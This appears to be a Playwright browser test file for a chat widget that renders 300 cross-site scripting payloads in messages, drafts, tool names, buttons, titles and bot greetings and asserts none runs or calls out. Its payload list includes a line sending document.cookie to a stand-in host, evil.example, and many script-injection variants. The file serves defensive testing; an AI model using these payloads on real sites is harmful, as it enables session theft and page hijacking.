"""Three hundred ways to smuggle a script in, through everything that the page shows. None runs, nothing leaves.

The page's policy (CSP) is switched off, so that it cannot hide a fault of the page itself.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from channels_integrations.rendering.markdown import html
from tests.browser.conftest import Product
from tests.browser.fake_socket import FakeSocket, message

pytestmark = pytest.mark.browser

RUNS = ("alert(1)", "window.harm=1", "fetch('//evil.example/'+document.cookie)")
SHAPES = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<script src=//evil.example/x.js></script>{}",
    "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "<IMG SRC=javascript:{}>", "<img src='//evil.example/a.png'>{}",
    "<svg onload={}>", "<svg/onload=\"{}\">", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>",
    "<math><mtext></p><img src onerror={}>", "<iframe src=\"javascript:{}\"></iframe>", "<iframe srcdoc=\"<script>{}</script>\">",
    "<body onload={}>", "<details open ontoggle={}>x</details>", "<input autofocus onfocus={}>", "<video><source onerror={}>",
    "<audio src onerror={}>", "<object data=javascript:{}>", "<embed src=javascript:{}>", "<link rel=stylesheet href=//evil.example/a.css>{}",
    "<style>@import '//evil.example/a.css';</style>{}", "<p style=\"background:url(//evil.example/a.png)\">{}</p>",
    "<a href=\"javascript:{}\">x</a>", "<form action=javascript:{}><button>x</button></form>", "<base href=//evil.example/>{}",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<template><img src onerror={}></template>",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "--><script>{}</script>", "\"><script>{}</script>",
    "'><script>{}</script>", "<noscript><p title=\"</noscript><img src onerror={}>\">", "<x onclick={} tabindex=1 autofocus onfocus={}>",
    "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](java\tscript:{})", "[x](&#106;avascript:{})", "[x](javascript&colon;{})",
    "[x](data:text/html,<script>{}</script>)", "[x](vbscript:{})", "[x](<javascript:{}>)", "[x]\n\n[x]: javascript:{}",
    "![x](//evil.example/a.png) {}", "![x](javascript:{})", "![x](x\"onerror=\"{})", "<javascript:{}>", "`<script>{}</script>`",
    "```\n</code></pre><script>{}</script>\n```", "```\"><script>{}</script>\nx\n```", "# <script>{}</script>", "| <script>{}</script> |\n|---|\n| x |",
    "- <img src onerror={}>", "> <svg onload={}>", "[<img src onerror={}>](https://a.example)", "[x](https://a.example \"\" onmouseover={})",
    "[x](https://a.example/\"onmouseover=\"{}\")", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<!--<img src=\"--><img src onerror={}//\">",
    "<img src=x onerror&#61;{}>", "&lt;script&gt;{}&lt;/script&gt;", "<scr\0ipt>{}</scr\0ipt>", "<<script>{}//<</script>", "<img/src/onerror={}>",
    "<a\nhref=\"javas&#99;ript:{}\">x</a>", "<marquee onstart={}>x</marquee>", "<table background=javascript:{}>", "<div onpointerenter={}>x</div>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg onload={}>\">",
    "<select><img src onerror={}></select>", "<xmp><script>{}</script></xmp>", "<plaintext><script>{}</script>", "<keygen autofocus onfocus={}>",
    "<img srcset='//evil.example/a.png 1x'>{}", "<video poster=//evil.example/a.png>{}", "<input type=image src=//evil.example/a.png onerror={}>",
    "<picture><source srcset=//evil.example/a.png><img></picture>{}", "<track src=//evil.example/a onerror={}>", "<portal src=//evil.example>{}",
    "<img src=\"x` `<script>{}</script>\"` `>", "<script>{}//", "<script\n>{}</script\n>", "<script/x>{}</script>", "<svg><style><img src onerror={}></style>",
    "<math><mi xlink:href=\"data:x,<script>{}</script>\">", "<isindex action=javascript:{} type=submit>", "<a href=' &#14; javascript:{}'>x</a>",
    "<button formaction=javascript:{}>x</button>", "<frameset onload={}>", "<layer src=//evil.example>{}", "<bgsound src=javascript:{}>",
    "<br size=\"&{{{}}}\">", "<img dynsrc=javascript:{}>", "<style onload={}></style>", "<object onerror={} data=x>", "<title onpropertychange={}>x</title>",
)  # fmt: skip
PAYLOADS = [shape.format(*itertools.repeat(run, 2)) for run in RUNS for shape in SHAPES][:300]


@pytest.fixture
def bare(browser: Browser) -> Iterator[Page]:
    """A page without its policy. What it asks of others, and every dialog, is a fault."""
    context = browser.new_context(bypass_csp=True, viewport={"width": 800, "height": 900})
    page = context.new_page()
    faults: list[str] = []
    page.on("dialog", lambda dialog: (faults.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: "127.0.0.1" not in request.url and faults.append(request.url))
    yield page
    page.wait_for_timeout(300)
    assert page.evaluate("window.harm") is None
    assert faults == []
    context.close()


def test_there_are_three_hundred() -> None:
    assert len(set(PAYLOADS)) == 300


@pytest.mark.parametrize("role", ["user", "assistant"])
def test_nothing_that_is_said_runs(bare: Page, address: str, role: str) -> None:
    fake = FakeSocket(bare)
    fake.history = [
        message(seq, role, text, html=html(text) if role == "assistant" else None)
        for seq, text in enumerate(PAYLOADS, 1)
    ]
    bare.goto(f"{address}/chat/demo/")
    expect(bare.locator(".message[data-seq]")).to_have_count(300)
    log = bare.get_by_role("log")
    assert log.locator("script, img, iframe, object, embed, svg:not(.icon svg), style, link, form").count() == 0
    unsafe = "nodes => nodes.flatMap(n => [...n.attributes]).filter(a => a.name.startsWith('on') || a.name == 'style')"
    assert log.locator("*").evaluate_all(f"{unsafe.replace('=> nodes', '=> nodes', 1)}.map(a => a.name)") == []
    links = log.locator("a").evaluate_all("nodes => nodes.map(n => n.protocol)")
    assert set(links) <= {"https:", "http:"}
    for link in log.locator("a").all()[:5]:
        link.hover()


def test_nothing_runs_while_it_is_written(bare: Page, address: str) -> None:
    fake = FakeSocket(bare)
    bare.goto(f"{address}/chat/demo/")
    expect(bare.get_by_role("textbox")).to_be_visible()
    bare.wait_for_function("() => document.querySelector('switchboard-chat').texts")
    bare.wait_for_timeout(200)
    for number, text in enumerate(PAYLOADS):
        turn = f"t{number}"
        fake.tell("start", turn=turn, attempt=1, n=0, blocks=[{"block": 0, "text": text}])
        fake.tell("delta", turn=turn, attempt=1, n=0, block=0, text=text)
        fake.tell("tool", turn=turn, name=text, state="running")
        fake.tell("block", turn=turn, attempt=1, n=1, block=0, html=html(text))
        fake.tell("error", code="x", message=text, retry_after=None, id=None)
    expect(bare.locator(".draft")).to_have_count(300)
    expect(bare.locator(".tool")).to_have_count(300)


def test_no_name_button_title_or_greeting_runs(bare: Page, address: str) -> None:
    fake = FakeSocket(bare, name=PAYLOADS[0], greeting="\n".join(PAYLOADS[:50]), suggestions=tuple(PAYLOADS))
    buttons = [{"id": str(number), "label": text} for number, text in enumerate(PAYLOADS)]
    fake.history = [message(1, "assistant", "x", html="<p>x</p>", buttons=buttons, author=PAYLOADS[3])]
    bare.goto(f"{address}/chat/demo/")
    expect(bare.locator(".choice")).to_have_count(300)
    bare.get_by_role("button", name="Earlier conversations").click()
    fake.tell(
        "conversations",
        items=[{"id": str(n), "title": t, "at": "2026-01-01T00:00:00Z"} for n, t in enumerate(PAYLOADS)],
    )
    expect(bare.locator("#panel li")).to_have_count(300)


def test_no_name_of_a_bot_runs(bare: Page, product: Product) -> None:
    product.run(f"""
from bots.models import Bot
from channels_integrations.models import ChannelConfig
row = ChannelConfig.objects.get(slug="demo")
ChannelConfig.objects.filter(slug__startswith="xss-").delete()
Bot.objects.filter(slug__startswith="xss-").delete()
for number, text in enumerate({PAYLOADS[::10]!r}):
    bot = Bot.objects.create(workspace=row.workspace, slug=f"xss-{{number}}", name=text.replace(chr(0), "")[:100],
                             greeting=text.replace(chr(0), ""), suggestions=[text.replace(chr(0), "")])
    ChannelConfig.objects.create(workspace=row.workspace, bot=bot, kind="webchat", slug=f"xss-{{number}}", name="x")
""")
    bare.goto(product.address)
    for number in range(0, 30, 3):
        bare.goto(f"{product.address}/chat/xss-{number}/")
        expect(bare.locator(".greeting")).to_be_visible()
